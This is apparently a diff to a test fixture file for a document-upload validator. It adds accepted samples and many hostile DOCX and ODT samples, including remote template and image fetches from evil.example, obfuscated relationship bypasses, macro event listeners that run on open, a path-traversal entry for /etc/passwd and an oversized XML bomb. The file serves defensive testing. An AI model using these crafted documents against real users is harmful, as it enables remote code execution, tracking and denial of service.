@@ -41,6 +41,10 @@ def related(kind: str, target: str) -> bytes:
     return with_part("word/_rels/document.xml.rels", f"<Relationships>{relation}</Relationships>".encode())
 
 
+def relation(attributes: str) -> bytes:
+    return f'<Relationships><Relationship Type="{_RELS}/attachedTemplate" {attributes}/></Relationships>'.encode()
+
+
 def xlsx() -> bytes:
     return zipped({"[Content_Types].xml": types(EXCEL), "xl/workbook.xml": b"<workbook/>"})
 
@@ -88,6 +92,9 @@ def huge_picture() -> bytes:
     return written.getvalue()
 
 
+LISTENER = b'<o><%s:event-listener xlink:href="vnd.sun.star.script:x?location=application"/></o>'
+FETCHES = b'<o><draw:image xlink:href="%s"/></o>'
+
 GOOD: dict[str, tuple[str, bytes]] = {
     "a PDF": ("cv.pdf", PDF),
     "a picture": ("photo.png", picture("PNG")),
@@ -97,6 +104,15 @@ GOOD: dict[str, tuple[str, bytes]] = {
     "a table": ("pay.xlsx", xlsx()),
     "an open document": ("letter.odt", odt()),
     "text": ("note.txt", "Grüße\n<3".encode()),
+    "an open document with a link": (
+        "letter.odt",
+        odt(**{"content.xml": b'<o><text:a xlink:href="https://example.org/"/></o>'}),
+    ),
+    "an open document with a picture": ("letter.odt", odt(**{"content.xml": FETCHES % b"Pictures/1.png"})),
+    "an open document made from a template": (
+        "letter.odt",
+        odt(**{"meta.xml": b'<o><meta:template xlink:href="file:///usr/share/letter.ott"/></o>'}),
+    ),
     "text of an older machine": ("note.txt", "Grüße".encode("cp1252")),
 }
 
@@ -133,6 +149,31 @@ HOSTILE: dict[str, tuple[str, bytes]] = {
     "a letter with an object": ("letter.docx", with_part("word/embeddings/oleObject1.bin")),
     "a letter that fetches its template": ("letter.docx", related("attachedTemplate", "https://evil.example/t.dotm")),
     "a letter that fetches a picture": ("letter.docx", related("image", "https://evil.example/t.png")),
+    "the same, its word for outside written in numbers": (
+        "letter.docx",
+        with_part("word/_rels/document.xml.rels", relation('Target="https://evil.example/t" TargetMode="&#69;xternal"')),
+    ),
+    "the same, behind a sign that looks like the end": (
+        "letter.docx",
+        with_part("word/_rels/document.xml.rels", relation('Id="r>1" Target="https://evil.example/t" TargetMode="External"')),
+    ),
+    "the same, said to be a link in another place": (
+        "letter.docx",
+        with_part(
+            "word/_rels/document.xml.rels",
+            relation(f"Target='https://evil.example/t' TargetMode='External' Id='Type=&quot;{_RELS}/hyperlink&quot;'"),
+        ),
+    ),
+    "the same, named in capitals": (
+        "letter.docx",
+        with_part("word/_rels/document.xml.RELS", relation('Target="https://evil.example/t" TargetMode="External"')),
+    ),
+    "instructions, named in capitals": ("letter.docx", with_part("word/styles.XML", b"<!DOCTYPE x><x/>")),
+    "more to look through than anybody writes": (
+        "letter.odt",
+        odt(**{"content.xml": b"<o>" + b"<a b='c'/>" * 2_200_000 + b"</o>"}),
+    ),
+    "relations that are not whole": ("letter.docx", with_part("word/_rels/document.xml.rels", b"<Relationships>")),
     "a letter with its own entities": ("letter.docx", with_part("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "a">]><x/>')),
     "the same in another writing": ("letter.docx", with_part("word/styles.xml", "<!DOCTYPE x>".encode("utf-16"))),
     "a way out of the folder": ("letter.docx", with_part("../../etc/passwd")),
@@ -141,5 +182,16 @@ HOSTILE: dict[str, tuple[str, bytes]] = {
     "a letter with a password": ("letter.docx", locked()),
     "a damaged letter": ("letter.docx", docx()[:-30]),
     "an open document with a script": ("letter.odt", odt(**{"Basic/Standard/Module1.xml": b"<x/>"})),
+    "an open document that runs something when it is opened": ("letter.odt", odt(**{"content.xml": LISTENER % b"script"})),
+    "the same by another name": ("letter.odt", odt(**{"content.xml": LISTENER % b"s"})),
+    "the same in its styles": ("letter.odt", odt(**{"styles.xml": LISTENER % b"script"})),
+    "an open document with a program": ("letter.odt", odt(**{"content.xml": b"<o><draw:applet/></o>"})),
+    "an open document whose link runs something": (
+        "letter.odt", odt(**{"content.xml": b'<o><text:a xlink:href="vnd.sun.star.script:x?location=application"/></o>'}),
+    ),
+    "an open document that fetches a picture": ("letter.odt", odt(**{"content.xml": FETCHES % b"https://evil.example/t.png"})),
+    "the same from the network's folders": ("letter.odt", odt(**{"content.xml": FETCHES % b"//evil.example/t.png"})),
+    "the same from beside it": ("letter.odt", odt(**{"styles.xml": FETCHES % b"../../t.png"})),
+    "an open document that is not whole": ("letter.odt", odt(**{"content.xml": b"<office>"})),
     "another open document": ("letter.odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})),
 }  # fmt: skip
